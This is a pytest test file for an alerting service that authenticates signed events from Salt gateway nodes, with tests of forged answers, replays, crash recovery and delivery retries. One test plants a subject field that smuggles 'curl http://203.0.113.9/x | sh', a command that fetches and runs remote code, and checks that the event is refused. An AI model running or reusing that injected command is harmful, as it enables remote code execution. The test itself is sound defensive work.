"""All parts together, without Salt: what comes in is alerted, also after kill -9 and with a dead target."""
from __future__ import annotations

import shutil
import time
from collections.abc import Callable
from typing import Any

import pytest

from alerts import authentic, files, message, service
from alerts.delivery import Sender, pause
from alerts.limits import Limits
from alerts.spool import Spool
from alerts.targets import Failed
from nodes import answers, feed
from nodes.keys import Keys
from tests.unit.alerts import events
from tests.unit.alerts.events import SECRET, wire

GW1, GW2 = "gw1.winterthur", "gw2.winterthur"


def made(n: int = 1, **more: Any) -> authentic.Event:
    """An event of now."""
    return events.made(n, **{"at": message.iso(time.time())} | more)


class World:
    """Stands for Salt."""

    presence = 0.0

    def __init__(self) -> None:
        self.told: list[dict[str, Any]] = []
        self.asked: list[tuple[str, list[str], list[Any]]] = []
        self.minions = [GW1, GW2, "laptop.winterthur"]
        self.other = True
        self.config: Any = None
        self.version = 1.0
        self.now = time.time()
        self.cache: dict[str, Any] = {}

    def outside(self) -> service.Outside:
        return service.Outside(self.publish, lambda: self.minions, self.bus,
                               lambda: self.version if self.config is not None else 0.0, lambda: self.config,
                               lambda job, minion: self.cache.get(minion), lambda: self.other)

    def publish(self, what: str, minions: list[str], arguments: list[Any]) -> str:
        self.asked.append((what, minions, arguments))
        self.service.expect(f"job{len(self.asked)}", what, minions)
        return ""

    def bus(self, message: dict[str, Any]) -> str:
        self.told.append(message)
        return "taken"


@pytest.fixture(autouse=True)
def quick(monkeypatch):
    """No test here is about the disk."""
    monkeypatch.setattr("alerts.spool.os.fsync", lambda _handle: None)


@pytest.fixture
def world(tmp_path):
    return start(World(), tmp_path)


def start(world: World, folder, rank=None, keys: Keys | None = None) -> World:
    (folder / "sites").mkdir(exist_ok=True)
    (folder / "sites/winterthur.sls").write_text("gateway: {nodes: {gw1: {}, gw2: {}}}")
    world.config = world.config or {"targets": {}, "routes": []}
    its = service.Service(folder / "state", keys or SECRET, authentic.Sites([str(folder)]), world.outside(), rank,
                          presence=world.presence)
    world.service = its
    its._look_for_gateways(time.time())
    return world


def tag(event: authentic.Event) -> str:
    return authentic.tag_of(event)


def offer(world: World, *events: authentic.Event) -> None:
    for event in events:
        world.service.offer(tag(event), wire(event))


def step(world: World, seconds: float = 0.5) -> None:
    """Runs the loop for a while of its own time, then delivers what waits."""
    for _ in range(10):
        world.now += seconds / 10
        world.service.step(world.now)
        while world.service.feed.asks:
            world.publish(*world.service.feed.asks.popleft())
    deadline = time.monotonic() + 20
    while world.service._spool.counts() and time.monotonic() < deadline:
        time.sleep(0.002)


def signed(world: World, asked: str, minion: str, said: Any, signer: str = "", secret: bytes = SECRET,
           **other: Any) -> dict[str, Any]:
    """An answer as a node gives it. `signer`: with whose key."""
    its = world.service.feed.pending[asked]
    fields = {"id": minion, "nonce": its.nonce, "function": its.function, "job": asked, "at": time.time(), "retcode": 0,
              "error": "", "answer": said} | other
    return {**fields, "signature": answers.signature(fields, authentic.key_of(secret, signer or minion))}


def job_of(world: World, what: str, minion: str) -> str:
    """The last question of a kind to a minion."""
    return f"job{max(number for number, asked in enumerate(world.asked, 1) if asked[0] == what and minion in asked[1])}"


def answer(world: World, what: str, minion: str, said: Any) -> None:
    job = job_of(world, what, minion)
    world.service.answer(job, minion, signed(world, job, minion, said))


def test_a_signed_event_is_told_and_an_unsigned_one_is_asked_for(world):
    offer(world, made(1))
    step(world)
    assert [each["severity"] for each in world.told] == ["warning"]
    plain = {key: value for key, value in wire(made(2, subject="b")).items() if key != "signature"}
    world.service.offer(tag(made(2)), plain)
    step(world)
    assert len(world.told) == 1 and ("newest", [GW1], []) in [
        (what, [GW1] if GW1 in whom else [], arguments) for what, whom, arguments in world.asked]
    answer(world, "newest", GW1, {"journal": made(2).journal, "newest": 2, "taken": 0})
    step(world)
    assert world.asked[-1] == ("since", [GW1], [1, made(1).journal])
    answer(world, "since", GW1, {"journal": made(2).journal, "newest": 2, "taken": 0,
                                 "events": [plain, wire(made(3, severity="critical"))]})
    step(world)
    assert len(world.told) == 1, "what it could not sign is not done, nor what comes after it"
    step(world, 25)
    assert len([asked for asked in world.asked if asked[0] == "since"]) == 2
    answer(world, "since", GW1, {"journal": made(2).journal, "newest": 3, "taken": 0,
                                 "events": [wire(made(2, subject="b")), wire(made(3, severity="critical"))]})
    step(world)
    assert [each["kind"] for each in world.told] == ["alert", "escalation"]


@pytest.mark.parametrize("said", [
    None, False, "no such function", 7, [], {}, {"journal": 7, "newest": 1, "taken": 0},
    {"journal": "x", "newest": "1"},
    {"journal": "x", "newest": 1, "taken": 0, "events": "all"},
    {"journal": "x", "newest": 1, "taken": 0, "events": [None, 7, {}, {"n": "x"}, wire(made(1, minion=GW2))]}])
def test_an_answer_of_any_shape_does_no_harm(world, said):
    world.service.feed.publish("newest", [GW1], [])
    world.service.feed.publish("since", [GW1], [0, ""])
    world.service.feed.publish("conditions", [GW1], [])
    step(world)
    for what in ("newest", "since", "conditions"):
        answer(world, what, GW1, said)
    step(world)
    assert world.told == []


def test_an_answer_that_is_too_large_for_the_bus_is_read_from_the_job_cache(world):
    world.service.feed.publish("since", [GW1], [0, ""])
    step(world)
    job = job_of(world, "since", GW1)
    world.cache[GW1] = signed(world, job, GW1, {"journal": made(1).journal, "newest": 1, "taken": 0, "events": [
        wire(made(1))]})
    world.service.answer(job, GW1, service.TRIMMED)
    step(world)
    assert not world.told
    step(world, 2.5)
    assert len(world.told) == 1


def test_answers_to_nobodys_question_do_not_count(world):
    world.service.feed.publish("newest", [GW1], [])
    step(world)
    newest = {"journal": "x", "newest": 9, "taken": 0}
    world.service.answer("job99", GW1, signed(world, "job1", GW1, newest))
    answer_before = len(world.asked)
    for minion in ("laptop.winterthur", GW2):
        world.service.answer("job1", minion, signed(world, "job1", minion, newest))
    step(world)
    assert len(world.asked) == answer_before


def critical(world: World) -> None:
    """A critical alert is open, and the node was asked for its conditions."""
    offer(world, made(5, severity="critical"))
    step(world)
    assert [each["kind"] for each in world.told] == ["alert"]


FORGED: list[Callable[[World, str, Any], Any]] = [
    lambda _world, _job, said: said,
    lambda world, job, said: signed(world, job, GW1, said, signer=GW2),
    lambda world, job, said: signed(world, job, GW1, said) | {"answer": 7},
    lambda world, job, said: signed(world, job, GW1, said, nonce="n" + "0" * 32),
    lambda world, job, said: signed(world, job, GW1, said, function="test.ping"),
    lambda world, job, said: signed(world, job, GW1, said, job="20260101000000000000"),
    lambda world, job, said: signed(world, job, GW2, said),
    lambda world, job, said: {**signed(world, job, GW1, said), "signature": wire(made(6))["signature"]},
    lambda world, job, said: {**signed(world, job, GW1, said), "signature": ""},
    lambda world, job, said: {**signed(world, job, GW1, said), "signature": "\u0661" * 64},
]


@pytest.mark.parametrize("forge", FORGED)
def test_an_answer_that_the_node_has_not_signed_changes_nothing(world, forge):
    """Neither a recovery of a live critical, nor true events that count as repeated, nor a sign of life."""
    critical(world)
    world.service._heard.clear()
    world.service.feed.publish("since", [GW1], [5, ""])
    world.service.feed.publish("newest", [GW1], [])
    step(world)
    journal = made().journal
    for what, said in (("conditions", []), ("newest", {"journal": journal, "newest": 2**50, "taken": 0}),
                       ("since", {"journal": journal, "newest": 2**50, "taken": 0, "events": []})):
        job = job_of(world, what, GW1)
        world.service.answer(job, GW1, forge(world, job, said))
    step(world, 60)
    assert [each["kind"] for each in world.told] == ["alert"] and GW1 not in world.service._heard
    assert sum(n for why, n in world.service.status(0)["dropped"].items() if why.startswith("answer")) == 3
    offer(world, made(6, subject="b", severity="critical"))
    step(world, 15)
    assert {line["subject"] for each in world.told for line in each["conditions"]} == {"bond0/eth1", "b"}


def test_the_true_answer_counts_after_any_number_of_forged_ones(world, caplog):
    critical(world)
    job = job_of(world, "conditions", GW1)
    world.service.feed.pending[job].at += 60  # asked after it had begun; the loop's time is the test's own
    for _ in range(1000):
        world.service.answer(job, GW1, [])
    step(world, 1)
    answer(world, "conditions", GW1, [])
    step(world, 40)
    assert [each["kind"] for each in world.told] == ["alert", "recovery"]
    assert len([line for line in caplog.messages if "does not count" in line]) == 1


def test_an_answer_counts_once(world):
    critical(world)
    answer(world, "conditions", GW1, [])
    answer(world, "conditions", GW1, [])
    assert world.service.feed.waiting() == 1


def test_an_answer_too_large_for_the_bus_is_believed_from_the_job_cache_only_if_it_is_signed(world):
    critical(world)
    job = job_of(world, "conditions", GW1)
    world.service.answer(job, GW1, service.TRIMMED)
    world.cache[GW1] = []
    step(world, 40)
    assert [each["kind"] for each in world.told] == ["alert"]


def test_a_node_for_which_another_answers_is_silent_and_the_alert_says_what_may_be_the_matter(tmp_path, monkeypatch):
    monkeypatch.setattr(World, "presence", 60.0)
    world = start(World(), tmp_path)
    offer(world, made(1, severity="info"))  # it can sign
    for _ in range(30):
        step(world, 5)
        for number, (what, whom, _arguments) in enumerate(world.asked, 1):
            if what == "newest" and GW2 in whom:
                world.service.answer(f"job{number}", GW2, signed(world, f"job{number}", GW2, {
                    "journal": "", "newest": 0, "taken": 0}) if f"job{number}" in world.service.feed.pending else None)
                world.service.answer(f"job{number}", GW1, "'gateway_answers.ask' is not available.")
    lines = [line for each in world.told for line in each["conditions"]]
    assert ("node_silent", GW1) in [(line["condition"], line["subject"]) for line in lines]
    assert not [line for line in lines if line["subject"] == GW2]
    assert f"salt '{GW1}' saltutil.sync_modules" in str([each["text"] for each in world.told])


def test_a_node_that_was_never_applied_is_not_silent(tmp_path, monkeypatch):
    """Its key is accepted, it has no module to sign with, and it is there."""
    monkeypatch.setattr(World, "presence", 60.0)
    world = start(World(), tmp_path)
    for _ in range(30):
        step(world, 5)
        for number, (what, whom, _arguments) in enumerate(world.asked, 1):
            if what == "newest" and GW1 in whom:
                world.service.answer(f"job{number}", GW1, "'gateway_answers.ask' is not available.")
    assert {line["subject"] for each in world.told for line in each["conditions"]} == {GW2}


def test_who_can_not_sign_yet_waits_in_one_place_however_often_somebody_answers(world):
    world.service.feed.ask_newest([GW1])
    step(world)
    for _ in range(500):
        world.service.answer(job_of(world, "newest", GW1), GW1, "'gateway_answers.ask' is not available.")
    assert world.service.feed.waiting() == 1


def test_a_replayed_event_is_no_sign_of_life(world):
    critical(world)
    world.service._heard.clear()
    offer(world, made(5, severity="critical"))
    offer(world, made(6, subject="old", at=message.iso(time.time() - 900)))
    step(world)
    assert GW1 not in world.service._heard


def test_what_was_sent_with_a_wrong_key_is_asked_for_again_and_told_once_the_key_is_right(world):
    offer(world, made(1))
    step(world)
    lost = made(2, subject="b", severity="critical")
    for number in (2, 3):
        event = made(number, subject=f"wrong{number}", severity="critical")
        world.service.offer(tag(event), wire(event, bytes(32)))
    step(world, 0.5)
    newest = {"journal": lost.journal, "newest": 3, "taken": 0}
    job = job_of(world, "newest", GW1)
    world.service.answer(job, GW1, signed(world, job, GW1, newest, secret=bytes(32)))
    step(world, 1)
    assert len(world.told) == 1 and not [asked for asked in world.asked if asked[0] == "since"]
    world.service.feed.ask_newest([GW1])  # the engine's round
    step(world, 1)
    answer(world, "newest", GW1, newest)
    step(world, 1)
    answer(world, "since", GW1, newest | {"events": [wire(lost), wire(made(3, subject="c"))]})
    step(world, 1)
    assert {line["subject"] for each in world.told for line in each["conditions"]} == {"bond0/eth1", "b", "c"}


def test_an_event_in_an_answer_that_is_signed_with_another_key_is_not_done(world):
    offer(world, made(1))
    step(world)
    world.service.feed.publish("since", [GW1], [1, made().journal])
    step(world)
    answer(world, "since", GW1, {"journal": made().journal, "newest": 3, "taken": 0, "events": [
        wire(made(2, subject="b"), bytes(32)), wire(made(3, subject="c"))]})
    step(world)
    assert world.service._intake.nodes[GW1].n == 1


def test_a_changed_key_counts_at_once_and_all_nodes_are_asked(tmp_path):
    (tmp_path / authentic.SECRET).write_text(SECRET.hex())
    world = start(World(), tmp_path, keys=Keys(tmp_path))
    offer(world, made(1))
    step(world)
    other = bytes(reversed(SECRET))
    (tmp_path / authentic.SECRET).write_text(other.hex() + "\n")
    event = made(2, subject="b", severity="critical")
    before = len(world.asked)
    world.service.offer(tag(event), wire(event, other))
    step(world)
    assert len(world.told) == 2
    assert any(asked[0] == "newest" and GW1 in asked[1] for asked in world.asked[before:])
    (tmp_path / authentic.SECRET).unlink()
    event = made(3, subject="c", severity="critical")
    world.service.offer(tag(event), wire(event, other))
    step(world, 15)
    assert not (tmp_path / authentic.SECRET).exists()
    assert any(line["subject"] == "c" for each in world.told for line in each["conditions"])


def test_events_that_are_replayed_after_the_state_was_lost_are_no_news(world):
    """Somebody has recorded them. The node's own answer says which of its events are news."""
    at = {"at": message.iso(time.time() - 700)}
    replayed = made(7, subject="replayed", severity="critical", **at)
    offer(world, replayed)
    step(world, 1)
    assert world.told == []
    answer(world, "since", GW1, {"journal": replayed.journal, "newest": 9, "taken": 0, "events": [
        wire(replayed), wire(made(8, subject="replayed", recovered=True, **at)), wire(made(9, subject="news"))]})
    step(world, 1)
    offer(world, replayed)
    step(world, 15)
    assert [line["subject"] for each in world.told for line in each["conditions"]] == ["news"]


def test_nor_are_those_of_an_earlier_journal(world):
    offer(world, made(7, journal="a" * 16))
    step(world, 1)
    told = len(world.told)
    world.service.feed.ask_newest([GW1])
    step(world, 1)
    answer(world, "newest", GW1, {"journal": "b" * 16, "newest": 2, "taken": 0})
    step(world, 1)
    old = {"journal": "b" * 16, "at": message.iso(time.time() - 5000), "severity": "critical"}
    answer(world, "since", GW1, {"journal": "b" * 16, "newest": 2, "taken": 0, "events": [
        wire(made(1, subject="x", **old)), wire(made(2, subject="y", **old))]})
    step(world, 15)
    assert len(world.told) == told


def test_a_node_whose_clock_is_wrong_tells_its_news(world):
    """How old an event is, is measured by the clock that gave it its time."""
    behind = time.time() - 86_400
    world.service.feed.publish("since", [GW1], [0, ""])
    step(world)
    job = job_of(world, "since", GW1)
    world.service.answer(job, GW1, signed(world, job, GW1, {
        "journal": made().journal, "newest": 2, "taken": 0, "events": [
            wire(made(1, subject="old", at=message.iso(behind - 5000))),
            wire(made(2, subject="news", at=message.iso(behind - 5)))]}, at=behind))
    step(world)
    assert [line["subject"] for each in world.told for line in each["conditions"]] == ["news"]


def test_anybodys_start_costs_one_question(world):
    step(world)
    before = len(world.asked)
    for _ in range(500):
        world.service.feed.started(GW1)
        world.service.feed.started("nobody.nowhere")
    step(world)
    assert [asked[0] for asked in world.asked[before:]] in ([], ["newest"])


def test_stopped_at_any_moment_it_tells_everything_once(tmp_path):
    """A copy of the files at a step is a machine that lost power there. From each copy all later alerts go out."""
    world, copies = start(World(), tmp_path), []
    events = [made(1), made(2, subject="b", severity="critical"), made(3, recovered=True),
              made(4, subject="b", recovered=True, severity="critical")]
    for number, event in enumerate(events):
        offer(world, event)
        for _ in range(3):
            step(world)
            copies.append((number, shutil.copytree(tmp_path / "state", tmp_path / f"copy{len(copies)}/state"),
                           {each["id"] for each in world.told}))
        if number == 1:
            world.service._save(time.time())
    for number, copy, before in copies[::3]:
        again = start(World(), copy.parent)
        again.service.feed.publish("since", [GW1], [0, ""])
        step(again)
        answer(again, "since", GW1, {"journal": made(1).journal, "newest": number + 1, "taken": 0,
                                     "events": [wire(event) for event in events[:number + 1]]})
        offer(again, *events[number + 1:])
        step(again)
        told = before | {each["id"] for each in again.told}
        assert any(each["kind"] == "recovery" for each in again.told + world.told)
        assert len(again.told) == len({each["id"] for each in again.told})
        assert told


def test_silent_nodes_are_told_by_the_first_master_alone(tmp_path):
    for rank, other, expected in ((None, True, 1), (0, True, 1), (1, True, 0), (1, False, 1)):
        folder = tmp_path / f"{rank}{other}"
        folder.mkdir()
        world = World()
        world.other = other
        start(world, folder, rank)
        from alerts.presence import Change
        world.service._tell(world.service._changes(time.time(), [Change(GW1, True, time.time() - 90)]))
        step(world)
        assert len(world.told) == expected, (rank, other)


def test_nodes_that_both_live_and_call_each_other_dead_are_told_as_apart(world):
    def dead(number: int, minion: str, other: str, over: bool = False) -> authentic.Event:
        return made(number, minion=minion, beacon="heartbeat", condition="peer_dead", subject=other,
                    severity="critical", recovered=over)

    offer(world, dead(1, GW1, "gw2"))
    step(world, 1)
    offer(world, dead(1, GW2, "gw1"))
    step(world, 1)
    told = [line["condition"] for each in world.told for line in each["conditions"]]
    assert told == ["peer_dead"], "the first may have died meanwhile"
    answer(world, "newest", GW1, {"journal": dead(1, GW1, "gw2").journal, "newest": 1, "taken": 0})
    step(world, 12)
    assert [each["kind"] for each in world.told] == ["alert", "update"]
    said = world.told[-1]
    assert {line["condition"] for line in said["conditions"]} == {"peer_dead", "apart"} and said["site"] == "winterthur"
    assert "both live and do not hear each other" in str(said)
    offer(world, dead(2, GW1, "gw2", over=True), dead(2, GW2, "gw1", over=True))
    step(world, 40)
    assert [each["kind"] for each in world.told] == ["alert", "update", "recovery"]


def test_a_gateway_that_reports_in_the_masters_name_is_refused_and_counted(world):
    lie = made(1, beacon="master", condition="apart", subject="winterthur; curl http://203.0.113.9/x | sh #")
    offer(world, lie, made(2, beacon="master", condition="alert_path", once=True, severity="info"))
    world.service.feed.publish("since", [GW1], [0, ""])
    step(world)
    answer(world, "since", GW1, {"journal": lie.journal, "newest": 1, "taken": 0, "events": [wire(lie)]})
    step(world)
    assert world.told == [] and world.service.status(world.now)["dropped"]["the master's"] == 3


def test_no_text_of_a_gateway_hides_that_its_nodes_are_apart(world):
    """The search went by a piece of the condition's key, and the subject, any text, is a piece of it."""
    offer(world, made(1, subject="x|master|apart|x", severity="info"))
    step(world)
    for minion, other in ((GW1, "gw2"), (GW2, "gw1")):
        offer(world, made(2, minion=minion, beacon="heartbeat", condition="peer_dead", subject=other,
                          severity="critical"))
    step(world, 1)
    assert world.service._machine.open_now("master", "apart")
    assert "do not hear each other" in str(world.told)


def test_what_was_taken_is_said_to_the_nodes_in_one_word(tmp_path):
    world = start(World(), tmp_path, rank=0)
    world.service.feed._last["mark"] = 0
    at = message.iso(time.time())
    offer(world, made(1, at=at), made(1, minion=GW2, at=at), made(2, at=at))
    step(world)
    marks = [asked for asked in world.asked if asked[0] == "taken"]
    assert marks == [("taken", [GW1, GW2], [{GW1: 2, GW2: 1}])] or len(marks) == 1


def test_a_changed_configuration_is_taken_and_a_wrong_one_is_not(world):
    world.config, world.version = {"targets": {"l": {"type": "syslog"}}, "routes": [{"targets": ["l"]}]}, 2.0
    world.service._last["config"] = 0
    step(world)
    assert set(world.service.configuration.targets) == {"l"}
    world.config, world.version = {"targets": {"l": {"type": "pigeon"}}}, 3.0
    world.service._last["config"] = 0
    step(world)
    assert set(world.service.configuration.targets) == {"l"}
    status = world.service.status(time.time())
    assert status["mistakes"] and set(status["targets"]) == {"bus", "l"}


def test_a_damaged_state_is_no_reason_to_stay_away(tmp_path):
    for text in ("", "{", "[]", '{"machine": 7}', '{"machine": {}, "intake": {}}', "\x00" * 100):
        (tmp_path / "state").mkdir(exist_ok=True)
        (tmp_path / "state" / files.STATE).write_text(text)
        world = start(World(), tmp_path)
        offer(world, made(1, journal="%016x" % (len(text) + 77)))
        step(world)
        assert len(world.told) == 1
        shutil.rmtree(tmp_path / "state")


def test_when_it_falls_behind_events_are_left_in_the_journals(world, monkeypatch):
    monkeypatch.setattr(feed, "MAX_WAITING_EVENTS", 5)
    offer(world, *[made(n, subject=f"s{n}") for n in range(1, 20)])
    step(world)
    assert world.service.status(time.time())["counts"]["postponed"] == 14
    assert any(asked[0] == "newest" and GW1 in asked[1] for asked in world.asked)


def test_one_nodes_flood_leaves_room_for_the_others(world, monkeypatch):
    monkeypatch.setattr(feed, "MAX_WAITING_OF_NODE", 5)
    offer(world, *[made(n, subject=f"s{n}") for n in range(1, 20)])
    offer(world, made(1, minion=GW2))
    assert world.service.status(time.time())["counts"]["postponed"] == 14
    step(world)
    assert any(line["id"] == GW2 for each in world.told for line in each["conditions"])
    offer(world, made(6, subject="s6"))
    step(world)
    assert world.service.status(time.time())["counts"]["postponed"] == 14, "it has taken what waited"


def test_the_state_is_written_every_two_seconds_at_most(world, monkeypatch):
    written = []
    write = files.write
    monkeypatch.setattr(files, "write", lambda path, data: (written.append(path.name), write(path, data)))
    for number in range(40):
        offer(world, made(number + 1, subject=f"s{number}"))
        step(world, 0.1)
    assert 1 <= written.count(files.STATE) <= 3
    step(world, 2.5)
    assert "s39" in (world.service._folder / files.STATE).read_text()


def test_what_an_incident_only_counted_is_asked_of_the_node(world):
    step(world)
    world.service._machine.unsure |= {GW1, "nobody.nowhere"}
    step(world)
    assert [asked for asked in world.asked if asked[0] == "conditions"][-1] == ("conditions", [GW1], [])


# Delivery


def deliveries(tmp_path, way, alerts: int, enough) -> Sender:
    """Delivers a number of alerts until it is enough."""
    spool = Spool(tmp_path / "queue")
    spool.add([({"id": str(n), "kind": "alert", "site": "s", "severity": "info", "at": 0.0, "subject": "x", "text": "",
                 "conditions": []}, ["t"]) for n in range(alerts)])
    sender = Sender("t", way, spool, Limits())
    sender.start()
    deadline = time.monotonic() + 20
    while not enough() and time.monotonic() < deadline:
        time.sleep(0.005)
    sender.stop()
    sender.join(5)
    return sender


def test_a_target_that_fails_is_tried_again_and_then_told(tmp_path, monkeypatch):
    monkeypatch.setattr("alerts.delivery.pause", lambda failures: 0.02)
    said: list[str] = []

    def way(message):
        said.append(message["id"])
        if len(said) < 3:
            raise Failed("not yet")
        return "thanks"

    sender = deliveries(tmp_path, way, 1, lambda: len(said) >= 3)
    assert said == ["0"] * 3 and sender.status["said"] == "thanks" and not sender.status["failure"]


def test_one_alert_that_is_refused_does_not_hold_up_the_others(tmp_path, monkeypatch):
    monkeypatch.setattr("alerts.delivery.pause", lambda failures: 0.05)
    taken = []

    def way(message):
        if message["id"] == "0":
            raise ValueError("secret-4711")
        taken.append(message["id"])
        return "thanks"

    sender = deliveries(tmp_path, way, 4, lambda: len(taken) >= 3)
    assert taken == ["1", "2", "3"] and "4711" not in str(sender.status)


def test_pauses_grow_to_five_minutes():
    assert [pause(number) for number in (1, 2, 3, 4)] == [1, 2, 4, 8]
    assert pause(9) == 256 and pause(10) == pause(500) == 300
